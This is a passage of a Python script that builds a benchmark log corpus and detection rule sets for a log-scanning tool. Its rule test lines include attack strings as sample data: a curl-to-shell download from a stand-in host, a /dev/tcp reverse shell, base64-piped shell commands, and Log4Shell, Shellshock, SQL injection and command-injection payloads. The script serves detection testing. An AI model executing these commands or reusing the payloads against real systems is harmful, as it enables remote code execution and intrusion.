#!/usr/bin/env python3
"""Deterministic benchmark corpus and pattern sets for Timberline (python3 stdlib only).

Writes, under DIR (default build/bench/corpus):

  plain/                the evidence tree, ~--mb MB, no compression at all: RFC 3164
                        auth.log/syslog, an RFC 5424 app log, nginx + Apache combined access
                        logs, JSON lines with "@timestamp", a Windows Security CSV export
  gz/                   the same files, each one gzipped (level 6, no name, mtime 0): FILE.gz
  tar/corpus.tar.gz     the plain tree as one gzipped ustar archive
  patterns/             the indicator sets, for N in 10, 1000, 10000, 100000:
    iocs-N.ioc            timberline: the literal part of set N (a quarter written defanged)
    iocs-N.txt            the same literals refanged, one per line (rg/ugrep/grep -F -f)
    combined-N.txt        N >= 1000: literals (regex-escaped) + the rules, rg/ugrep syntax
    combined-N.ere        N >= 1000: the same in POSIX ERE for GNU grep -E -f
    rules.rules           the 50 PCRE2 rules in timberline's format (sets N >= 1000)
    rules-regex.txt       the 50 regexes for ripgrep's default engine (also read by ugrep)
    rules-ere.txt         the 50 regexes as GNU ERE (\\d, (?:), (?i:), lazy quantifiers rewritten)
    catchall.rules        one rule matching every non-empty line (BENCH_CATCHALL)
  corpus.json           parameters, file list and sizes, sets, planted indicators and counts

Set N has N indicators: for N >= 1000 the 50 rules plus N - 50 literals, for N = 10 ten
literals and no rules. Every set holds the same 8 planted literals (the only ones that occur
in the corpus), so indicator hit counts are the same in every set; the sets are nested.

  gen-corpus.py --check-peers DIR   checks every rule's test lines against rg, ugrep and
                                    grep -E in their dialects (rules-regex.txt, rules-ere.txt)

Same --seed and --mb give byte-identical output.
"""
import argparse
import base64
import gzip
import hashlib
import json
import os
import random
import re
import shutil
import sys
import tarfile
import time

# ---------------------------------------------------------------- fixed vocabulary

HOSTS = ["web1", "web2", "db1", "bastion", "mail1", "ci-runner3"]
USERS = ["alice", "bob", "deploy", "jenkins", "postgres", "www-data", "carol", "dave", "backup"]
BRUTE_USERS = ["root", "admin", "test", "oracle", "ubuntu", "user", "guest", "ftpuser", "pi",
               "git", "postgres", "support", "minecraft", "steam", "hadoop", "nagios"]
SUDO_CMDS = ["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update",
             "/usr/bin/journalctl -u app --since today", "/bin/cat /var/log/app/error.log",
             "/usr/bin/docker ps", "/usr/sbin/nginx -t", "/usr/bin/tail -n 200 /var/log/syslog"]
PATHS = ["/", "/index.html", "/products.php?id=%d", "/api/v1/orders/%d", "/api/v1/cart",
         "/static/js/app.%d.js", "/static/css/site.css", "/images/p/%d.jpg", "/search?q=shoes+%d",
         "/login", "/account/orders", "/favicon.ico", "/robots.txt", "/blog/post-%d",
         "/api/v1/products?page=%d&size=20", "/checkout/step-2", "/healthz"]
REFERERS = ["-", "https://shop.example.com/", "https://www.google.com/",
            "https://shop.example.com/cart", "https://www.bing.com/search?q=shoes"]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0", "python-requests/2.31.0", "kube-probe/1.29",
]
SCANNER_UAS = ["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000066)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
               "Mozilla/5.0 (X11; Linux x86_64) nuclei/3.1.0", "gobuster/3.6", "masscan/1.3"]
SERVICES = ["order-svc", "payment-svc", "inventory", "auth-gw", "mailer"]
MSGIDS = ["ORDER", "PAY", "STOCK", "AUTH", "SMTP", "-"]
BG_FIRST_OCTETS = [23, 34, 52, 66, 73, 98, 104, 142, 157, 166, 24, 71, 86]
IOC_FIRST_OCTETS = [45, 89, 91, 185, 193, 194, 212, 217]
TLDS = ["top", "xyz", "ru", "cc", "info", "biz", "online", "site", "club", "icu"]
WORDS = ["update", "cdn", "secure", "login", "verify", "account", "files", "sync", "cloud",
         "mail", "static", "api", "portal", "drive", "docs", "office", "auth", "data", "srv",
         "node", "edge", "relay", "track", "metrics", "panel"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
# Seized logs are not pure ASCII: application and Windows logs of a European shop carry staff
# and customer names and localized messages in UTF-8. These go into benign fields only (no rule
# or indicator looks at them), so hit counts do not change; see --intl.
INTL_USERS = ["jürgen.müller", "françois", "søren", "łukasz.wójcik", "josé.garcía", "zoë", "björn",
              "ana.peña", "дмитрий", "ömer.çelik", "nguyễn.văn.an", "王伟"]
INTL_MSGS = ["Bestellung storniert: Größe nicht verfügbar", "paiement refusé : fonds insuffisants",
             "заказ создан", "注文が作成されました", "pedido enviado a São Paulo",
             "ürün stokta yok", "Zahlung bestätigt für Kundennummer Ä-1042"]

# The 50 rules. Byte-mode PCRE2; only constructs ripgrep's default engine also knows, so the
# rg variant is a mechanical rewrite of the named groups (see to_rg).
RULES = [
    ("ssh-failed-password", "medium", "Failed SSH password", "attack.t1110.001, credential-access",
     r"sshd\[\d+\]: Failed password for (?:invalid user )?(?<user>\S+) from (?<src_ip>[0-9a-fA-F:.]+) port (?<src_port>\d+)",
     "Jan  3 12:00:01 web1 sshd[811]: Failed password for root from 203.0.113.5 port 4242 ssh2",
     "Jan  3 12:00:02 web1 sshd[811]: Accepted password for root from 203.0.113.5 port 4242 ssh2"),
    ("ssh-invalid-user", "low", "SSH attempt for a non-existent user", "attack.t1110, credential-access",
     r"sshd\[\d+\]: Invalid user (?<user>\S*) from (?<src_ip>[0-9a-fA-F:.]+) port \d+",
     "Jan  3 12:00:03 web1 sshd[4117]: Invalid user oracle from 203.0.113.5 port 51320",
     "Jan  3 12:00:05 web1 sshd[4117]: Failed password for invalid user oracle from 203.0.113.5 port 51320 ssh2"),
    ("ssh-root-login-accepted", "high", "Root logged in over SSH", "attack.t1078.003, initial-access",
     r"sshd\[\d+\]: Accepted (?<method>password|publickey|keyboard-interactive/pam) for root from (?<src_ip>[0-9a-fA-F:.]+)",
     "Jan  3 12:11:42 web1 sshd[4990]: Accepted password for root from 203.0.113.5 port 40714 ssh2",
     "Jan  3 12:11:42 web1 sshd[4990]: Accepted publickey for deploy from 10.0.0.5 port 40714 ssh2"),
    ("sudo-root-shell", "high", "sudo to an interactive root shell", "attack.t1548.003, privilege-escalation",
     r"^\w{3} [ \d]\d \d\d:\d\d:\d\d \S+ sudo(?:\[\d+\])?: +(?<user>\S+) : .*COMMAND=(?<command>/(?:usr/)?bin/(?:ba|z|da)?sh(?: -i)?|/usr/bin/su(?: -)?)$",
     "Jan  3 12:12:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
     "Jan  3 12:12:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt-get update"),
    ("sudo-auth-failure", "medium", "Repeated wrong sudo password", "attack.t1548.003, privilege-escalation",
     r"sudo(?:\[\d+\])?: +(?<user>\S+) : (?<count>\d+) incorrect password attempts?",
     "Jan  3 12:12:01 web1 sudo:   www-data : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
     "Jan  3 12:12:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/ls"),
    ("new-local-user", "medium", "Local account created", "attack.t1136.001, persistence",
     r"useradd\[\d+\]: new user: name=(?<user>[^,]+), UID=(?<uid>\d+)",
     "Jan  3 12:13:00 web1 useradd[5120]: new user: name=sysupd, UID=1005, GID=1005, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0",
     "Jan  3 12:13:00 web1 useradd[5120]: new group: name=sysupd, GID=1005"),
    ("download-pipe-shell", "critical", "Remote script piped into a shell (curl|sh)", "attack.t1059.004, execution",
     r"(?i:curl|wget)\s[^|;]*?(?<url>https?://[^\s|;'\"]+)[^|;]*\|\s*(?:sudo\s+)?(?:ba|da|z)?sh\b",
     "Jan  3 12:14:00 web1 CRON[6001]: (root) CMD (curl -fsSL http://evil.example/x.sh | sh)",
     "Jan  3 12:14:00 web1 CRON[6001]: (root) CMD (curl -fsSL http://good.example/x.sh -o /tmp/x.sh)"),
    ("reverse-shell-devtcp", "critical", "bash reverse shell via /dev/tcp", "attack.t1059.004, execution",
     r"(?:ba)?sh -i\s*>&\s*/dev/tcp/(?<dst_ip>[0-9.]+)/(?<dst_port>\d+)",
     "Jan  3 12:15:00 web1 CRON[6002]: (www-data) CMD (bash -i >& /dev/tcp/198.51.100.9/4444 0>&1)",
     "Jan  3 12:15:00 web1 CRON[6002]: (root) CMD (test -x /usr/sbin/anacron)"),
    ("web-sqli-union", "high", "SQL injection: UNION SELECT", "attack.t1190, initial-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"(?<method>[A-Z]+) (?<url>[^\" ]*(?i:union(?:%20|\+|/\*\*/)+(?:all(?:%20|\+)+)?select(?:%20|\+|%28|\(|/\*))[^\" ]*)",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /p.php?id=7%20UNION%20ALL%20SELECT%20NULL HTTP/1.1" 200 9788 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /search?q=credit+union+selection HTTP/2.0" 200 11872 "-" "curl/8.5.0"'),
    ("web-sqli-tautology", "high", "SQL injection: tautology or sleep", "attack.t1190, initial-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"[A-Z]+ [^\" ]*\?[^\" ]*(?i:(?:%27|')(?:%20|\+)*or(?:%20|\+)+(?:%27|')?1(?:%27|')?(?:%3d|=)|sleep(?:%28|\()\d)",
     '203.0.113.5 - - [03/Jan/2026:11:26:22 +0000] "GET /products.php?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1" 200 15220 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:11:26:22 +0000] "GET /products.php?id=12 HTTP/1.1" 200 15220 "-" "curl/8.5.0"'),
    ("web-path-traversal", "high", "Directory traversal in the request", "attack.t1083, discovery",
     r"^(?<src_ip>[0-9a-fA-F:.]+) .*\"[A-Z]+ (?<url>[^\" ]*(?:\.\./|\.\.%2[fF]|%2[eE]%2[eE]%2[fF]|%2[eE]%2[eE]/)[^\" ]*)",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET /download?f=../../../../etc/passwd HTTP/1.1" 400 153 "-" "curl/8.5.0"',
     '192.0.2.9 - - [03/Jan/2026:11:02:22 +0000] "GET /static/css/site.css HTTP/1.1" 200 1530 "-" "curl/8.5.0"'),
    ("web-scanner-ua", "medium", "Vulnerability scanner User-Agent", "attack.t1595.002, reconnaissance",
     r"^(?<src_ip>[0-9a-fA-F:.]+) .*\" (?<status>\d{3}) \S+ \"[^\"]*\" \"(?<user_agent>[^\"]*(?i:nikto|nmap scripting engine|masscan|zgrab|nuclei|gobuster|sqlmap|wpscan)[^\"]*)\"",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET /admin/ HTTP/1.1" 404 153 "-" "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000066)"',
     '192.0.2.114 - - [03/Jan/2026:06:05:36 +0000] "GET /blog/nikto-review HTTP/2.0" 200 5120 "-" "curl/8.5.0"'),
    ("web-sensitive-file", "medium", "Probe for secrets or VCS metadata", "attack.t1552.001, credential-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"[A-Z]+ (?<url>/(?:[^\" ]*/)?(?:\.env|\.git/config|\.aws/credentials|wp-config\.php\.bak|id_rsa)) ",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8.5.0"',
     '192.0.2.9 - - [03/Jan/2026:11:02:22 +0000] "GET /environment HTTP/1.1" 200 1530 "-" "curl/8.5.0"'),
    ("web-webshell-access", "critical", "Request to a likely web shell", "attack.t1505.003, persistence",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"(?:GET|POST) (?<url>/[^\" ]*/(?:c99|r57|wso|shell|cmd|b374k)\.php(?:\?[^\" ]*)?) HTTP/[0-9.]+\" (?<status>200)",
     '203.0.113.5 - - [03/Jan/2026:11:40:00 +0000] "POST /uploads/wso.php HTTP/1.1" 200 52 "-" "curl/8.5.0"',
     '203.0.113.5 - - [03/Jan/2026:11:40:00 +0000] "POST /uploads/wso.php HTTP/1.1" 404 52 "-" "curl/8.5.0"'),
    ("web-log4shell", "critical", "Log4Shell JNDI lookup string", "attack.t1190, initial-access",
     r"\$\{(?:\$\{[^}]*\}|[jJ])(?:\$\{[^}]*\}|[nN])(?:\$\{[^}]*\}|[dD])(?:\$\{[^}]*\}|[iI]):(?<proto>ldap|ldaps|rmi|dns|iiop)",
     '203.0.113.5 - - [03/Jan/2026:11:02:22 +0000] "GET / HTTP/1.1" 200 153 "-" "${jndi:ldap://198.51.100.9:1389/a}"',
     '192.0.2.9 - - [03/Jan/2026:11:02:22 +0000] "GET /jndi/ldap HTTP/1.1" 200 1530 "-" "curl/8.5.0"'),
    ("json-encoded-powershell", "high", "PowerShell with an encoded command", "attack.t1059.001, execution",
     r"\"command_line\":\"[^\"]*powershell(?:\.exe)?[^\"]* -(?i:e|enc|encodedcommand) (?<payload>[A-Za-z0-9+/=]{20,})",
     '{"@timestamp":"2026-01-03T12:00:00Z","event":"process_start","command_line":"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"}',
     '{"@timestamp":"2026-01-03T12:00:00Z","event":"process_start","command_line":"powershell.exe -File C:\\\\ops\\\\backup.ps1"}'),
    ("win-logon-failure", "low", "Windows logon failure (4625)", "attack.t1110, credential-access",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,4625,[^,]*,[^,]*,\"?An account failed to log on.*Account Name:\s+(?<user>[^\s,]+)",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4625,Information,Logon,"An account failed to log on. Account Name: administrator Source Network Address: 203.0.113.5"',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4624,Information,Logon,"An account was successfully logged on. Account Name: alice"'),
    ("win-admin-group-add", "high", "Member added to a privileged group (4728/4732/4756)", "attack.t1098, persistence",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,(?<event_id>4728|4732|4756),.*Group Name:\s+(?<group>Administrators|Domain Admins|Enterprise Admins)",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4732,Information,Security Group Management,"A member was added to a security-enabled local group. Member Name: CORP\\svc_upd Group Name: Administrators"',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,4732,Information,Security Group Management,"A member was added to a security-enabled local group. Member Name: CORP\\bob Group Name: Print Operators"'),
    ("win-audit-log-cleared", "critical", "Security audit log cleared (1102)", "attack.t1070.001, defense-evasion",
     r"^[0-9T:.Z-]+,(?<host>[^,]+),Security,1102,",
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,1102,Information,Log clear,"The audit log was cleared."',
     '2026-01-03T12:00:01.123Z,DC01.corp.example,Security,11020,Information,Other,"x"'),
    ("app-auth-lockout", "medium", "Application account lockout (RFC 5424 app log)", "attack.t1110, credential-access",
     r"^<\d{1,3}>1 \S+ \S+ (?<app>\S+) \S+ AUTH \[[^\]]*user=\"(?<user>[^\"]+)\"[^\]]*\] account locked after (?<count>\d+) failed attempts",
     '<38>1 2026-01-03T12:00:01.123Z web1 auth-gw 4411 AUTH [meta@32473 user="carol" src="10.0.3.7"] account locked after 5 failed attempts',
     '<38>1 2026-01-03T12:00:01.123Z web1 auth-gw 4411 AUTH [meta@32473 user="carol" src="10.0.3.7"] login ok'),
    # ---- 30 more (rules 21-50): the same formats, more tactics; 3 of them never fire here
    ("ssh-max-auth-exceeded", "medium", "sshd: too many authentication attempts in one connection", "attack.t1110, credential-access",
     r"sshd\[\d+\]: error: maximum authentication attempts exceeded for (?:invalid user )?(?<user>\S+) from (?<src_ip>[0-9a-fA-F:.]+) port \d+",
     "Jan  3 12:00:09 web1 sshd[4117]: error: maximum authentication attempts exceeded for root from 203.0.113.5 port 51320 ssh2 [preauth]",
     "Jan  3 12:00:09 web1 sshd[4117]: Disconnecting authenticating user root 203.0.113.5 port 51320: Too many authentication failures [preauth]"),
    ("su-root-session", "medium", "su session opened for root", "attack.t1548, privilege-escalation",
     r"su(?:\[\d+\])?: pam_unix\(su(?:-l)?:session\): session opened for user root(?:\(uid=0\))? by (?<user>[^\s(]*)",
     "Jan  3 12:20:00 web1 su[5123]: pam_unix(su-l:session): session opened for user root(uid=0) by deploy(uid=1000)",
     "Jan  3 12:20:00 web1 su[5123]: pam_unix(su-l:session): session opened for user postgres(uid=114) by deploy(uid=1000)"),
    ("usermod-priv-group", "high", "Account added to an administrative group", "attack.t1098, persistence",
     r"usermod\[\d+\]: add '(?<user>[^']+)' to (?:shadow )?group '(?<group>sudo|wheel|adm|docker|lxd)'",
     "Jan  3 12:13:05 web1 usermod[5133]: add 'sysupd' to group 'sudo'",
     "Jan  3 12:13:05 web1 usermod[5133]: add 'sysupd' to group 'users'"),
    ("cron-tmp-exec", "high", "cron job runs a program from a world-writable directory", "attack.t1053.003, persistence",
     r"CRON\[\d+\]: \((?<user>[^)]+)\) CMD \((?<command>[^)]*(?:/tmp/|/dev/shm/|/var/tmp/)[^)]*)\)",
     "Jan  3 12:30:01 web1 CRON[7001]: (www-data) CMD (/dev/shm/.x/kworker -c /dev/shm/.x/config.json)",
     "Jan  3 12:30:01 web1 CRON[7001]: (root) CMD (/usr/local/bin/backup.sh --incremental)"),
    ("ufw-block-backdoor-port", "low", "Firewall blocked a connection to a classic backdoor port", "attack.t1046, discovery",
     r"\[UFW BLOCK\] IN=\S+ OUT=\S* .*SRC=(?<src_ip>[0-9.]+) .*DPT=(?<dst_port>4444|1337|31337|6667)\b",
     "Jan  3 12:31:00 web1 kernel: [1234.567890] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=203.0.113.5 DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=50 ID=1 PROTO=TCP SPT=40000 DPT=4444 WINDOW=1024 RES=0x00 SYN URGP=0",
     "Jan  3 12:31:00 web1 kernel: [1234.567890] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=203.0.113.5 DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=50 ID=1 PROTO=TCP SPT=40000 DPT=443 WINDOW=1024 RES=0x00 SYN URGP=0"),
    ("systemd-unit-enabled", "medium", "systemd service enabled (symlink into a .wants directory)", "attack.t1543.002, persistence",
     r"systemd\[1\]: Created symlink /etc/systemd/system/(?<target>[\w.-]+)\.wants/(?<unit>[\w@.-]+\.service)",
     "Jan  3 12:32:00 web1 systemd[1]: Created symlink /etc/systemd/system/multi-user.target.wants/dbus-helper.service \u2192 /etc/systemd/system/dbus-helper.service.",
     "Jan  3 12:32:00 web1 systemd[1]: Started dbus-helper.service."),
    ("dns-long-label", "low", "DNS query with a very long label (tunnelling, DGA)", "attack.t1071.004, command-and-control",
     r"dnsmasq\[\d+\]: query\[(?:A|AAAA|TXT)\] (?<domain>[a-z0-9]{30,}\.[a-z0-9.-]+) from",
     "Jan  3 12:33:00 web1 dnsmasq[612]: query[TXT] 4a6f686e446f65736e7445786973742e6578616d706c65.t.evil-dns.example from 10.0.0.7",
     "Jan  3 12:33:00 web1 dnsmasq[612]: query[A] update-cdn42.top from 10.0.0.7"),
    ("postfix-sasl-failure", "medium", "SMTP AUTH failure (password spraying)", "attack.t1110.003, credential-access",
     r"postfix/(?:submission/)?smtpd\[\d+\]: warning: [\w.-]*\[(?<src_ip>[0-9a-fA-F:.]+)\]: SASL (?:LOGIN|PLAIN) authentication failed",
     "Jan  3 12:34:00 mail1 postfix/smtpd[9911]: warning: unknown[203.0.113.5]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
     "Jan  3 12:34:00 mail1 postfix/smtpd[9911]: connect from unknown[203.0.113.5]"),
    ("sudo-sensitive-file", "high", "sudo used to read credential files", "attack.t1003.008, credential-access",
     r"sudo(?:\[\d+\])?: +(?<user>\S+) : .*COMMAND=/(?:usr/)?bin/(?:cat|less|more|head|tail|cp|vi|vim|nano) (?<file>/etc/shadow|/etc/sudoers|/root/\.ssh/\S+)",
     "Jan  3 12:35:00 web1 sudo:   www-data : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow",
     "Jan  3 12:35:00 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/cat /var/log/app/error.log"),
    ("base64-pipe-shell", "critical", "base64-decoded script piped into a shell", "attack.t1027, defense-evasion",
     r"(?:echo|printf)\s+['\"]?[A-Za-z0-9+/=]{16,}['\"]?\s*\|\s*base64\s+(?:-d|--decode)\s*\|\s*(?:ba|da|z)?sh\b",
     "Jan  3 12:36:00 web1 CRON[7002]: (www-data) CMD (echo Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | bash)",
     "Jan  3 12:36:00 web1 CRON[7002]: (root) CMD (echo c2VjcmV0 > /tmp/x; base64 -d /tmp/x)"),
    ("crypto-miner", "high", "Cryptocurrency miner binary or pool URL", "attack.t1496, impact",
     r"(?i:xmrig|minerd|cpuminer)|stratum\+(?:tcp|ssl)://",
     '{"@timestamp":"2026-01-03T12:00:00Z","event":{"action":"process_start"},"command_line":"/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u 4Abc"}',
     '{"@timestamp":"2026-01-03T12:00:00Z","event":{"action":"process_start"},"command_line":"/usr/bin/python3 /opt/miner-report/report.py"}'),
    ("app-role-escalation", "high", "Application account promoted to an admin role", "attack.t1098, privilege-escalation",
     r"^<\d{1,3}>1 \S+ \S+ (?<app>\S+) \S+ AUTH \[[^\]]*user=\"(?<user>[^\"]+)\"[^\]]*\] role changed (?:from \w+ )?to (?<role>admin|superuser|owner)\b",
     '<37>1 2026-01-03T12:00:01.123Z web1 auth-gw 4411 AUTH [meta@32473 user="carol" src="10.0.3.7"] role changed from viewer to admin',
     '<37>1 2026-01-03T12:00:01.123Z web1 auth-gw 4411 AUTH [meta@32473 user="carol" src="10.0.3.7"] role changed from admin to viewer'),
    ("card-number-in-log", "medium", "Payment card number written to a log (no literal: regex screen only)", "pci, data-exposure",
     r"\b4[0-9]{3}(?:[ -]?[0-9]{4}){3}\b",
     '<14>1 2026-01-03T12:00:01.123Z web1 payment-svc 4411 PAY [req@32473 id="0a1b2c3d" user="bob" ms="12"] charge failed for card 4111 1111 1111 1111 exp 12/27',
     '<14>1 2026-01-03T12:00:01.123Z web1 payment-svc 4411 PAY [req@32473 id="0a1b2c3d" user="bob" ms="12"] charge failed for card ending 1111'),
    ("app-sql-error", "low", "Database syntax error surfaced by the application", "attack.t1190, initial-access",
     r"(?:SQLSTATE\[[0-9A-Z]{5}\]|syntax error at or near|ORA-0\d{4}|You have an error in your SQL syntax)",
     '<11>1 2026-01-03T12:00:01.123Z web1 order-svc 4411 ORDER [req@32473 id="0a1b2c3d" user="-" ms="3"] query failed: SQLSTATE[42601]: syntax error at or near "UNION"',
     '<14>1 2026-01-03T12:00:01.123Z web1 order-svc 4411 ORDER [req@32473 id="0a1b2c3d" user="bob" ms="3"] request completed'),
    ("app-upload-executable", "high", "Executable uploaded through the application", "attack.t1105, command-and-control",
     r"UPLOAD \[file@32473 [^\]]*name=\"(?<file>[^\"]+\.(?:exe|dll|scr|ps1|hta|jar|elf))\"",
     '<14>1 2026-01-03T12:00:01.123Z web1 inventory 4411 UPLOAD [file@32473 name="invoice.pdf.exe" size="73802"] upload scanned',
     '<14>1 2026-01-03T12:00:01.123Z web1 inventory 4411 UPLOAD [file@32473 name="invoice.pdf" size="73802"] upload scanned'),
    ("web-xss", "medium", "Cross-site scripting probe in the request", "attack.t1189, initial-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"[A-Z]+ (?<url>[^\" ]*(?i:<script|%3cscript|javascript:|onerror(?:=|%3d)|onload(?:=|%3d))[^\" ]*)",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 9788 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /blog/post-javascript-tips HTTP/2.0" 200 11872 "-" "curl/8.5.0"'),
    ("web-cmd-injection", "high", "OS command injection in the request", "attack.t1190, initial-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"[A-Z]+ (?<url>[^\" ]*(?:;|%3[bB]|%7[cC]|%60|\$\(|%24%28)(?:%20|\+)*(?:id|whoami|uname(?:%20|\+)-a|cat(?:%20|\+)/etc/passwd|wget|curl)\b[^\" ]*)",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /cgi-bin/ping.cgi?host=127.0.0.1%3Bwhoami HTTP/1.1" 200 98 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /products.php?id=12 HTTP/2.0" 200 11872 "-" "curl/8.5.0"'),
    ("web-rfi", "high", "Remote file inclusion: a URL as a parameter value", "attack.t1190, initial-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"[A-Z]+ (?<url>[^\" ]*\?[^\" ]*=(?i:https?|ftp)(?:://|%3a%2f%2f)[^\" ]*\.(?:txt|php|jpg|gif)\?)",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /index.php?page=http://198.51.100.9/shell.txt? HTTP/1.1" 200 98 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /index.php?page=about HTTP/1.1" 200 98 "https://shop.example.com/x.php?" "curl/8.5.0"'),
    ("web-php-wrapper", "high", "PHP stream wrapper in the request (LFI to source/RCE)", "attack.t1190, initial-access",
     r"(?i:php://(?:filter|input)|php%3a%2f%2f(?:filter|input)|data://text/plain;base64|expect://)",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /index.php?page=php://filter/convert.base64-encode/resource=index.php HTTP/1.1" 200 98 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /docs/php-filter-guide HTTP/1.1" 200 98 "-" "curl/8.5.0"'),
    ("web-wp-login-post", "low", "WordPress login / XML-RPC password attempt", "attack.t1110.001, credential-access",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"POST /(?:wp-login\.php|xmlrpc\.php) HTTP/[0-9.]+\" (?<status>200|302)",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "POST /wp-login.php HTTP/1.1" 200 4521 "-" "Mozilla/5.0"',
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /wp-login.php HTTP/1.1" 200 4521 "-" "Mozilla/5.0"'),
    ("web-admin-panel-probe", "low", "Probe for an admin or management interface", "attack.t1595.003, reconnaissance",
     r"^(?<src_ip>[0-9a-fA-F:.]+) \S+ \S+ \[[^\]]+\] \"(?:GET|HEAD|POST) (?<url>/(?:phpmyadmin|phpMyAdmin|pma|myadmin|adminer(?:-[0-9.]+)?\.php|manager/html|solr/admin|actuator/(?:env|heapdump)|server-status))[/ ?]",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /phpmyadmin/index.php HTTP/1.1" 404 153 "-" "curl/8.5.0"',
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /blog/phpmyadmin-tips HTTP/1.1" 200 153 "-" "curl/8.5.0"'),
    ("web-shellshock", "critical", "Shellshock function definition in a request header", "attack.t1190, initial-access",
     r"\(\)\s*\{\s*(?::\s*;|[a-z]+\s*;)\s*\}\s*;",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "GET /cgi-bin/status HTTP/1.1" 200 98 "-" "() { :; }; /bin/bash -c \'id\'"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /cgi-bin/status HTTP/1.1" 200 98 "-" "Mozilla/5.0 (X11; Linux x86_64)"'),
    ("web-spring4shell", "critical", "Spring4Shell class loader manipulation", "attack.t1190, initial-access",
     r"class\.module\.classLoader\.",
     '203.0.113.5 - - [03/Jan/2026:11:14:40 +0000] "POST /app/greeting?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1" 200 98 "-" "curl/8.5.0"',
     '192.0.2.61 - - [03/Jan/2026:15:01:12 +0000] "GET /docs/class-loader HTTP/1.1" 200 98 "-" "curl/8.5.0"'),
    ("json-certutil-download", "high", "certutil used to download or decode a file", "attack.t1105, command-and-control",
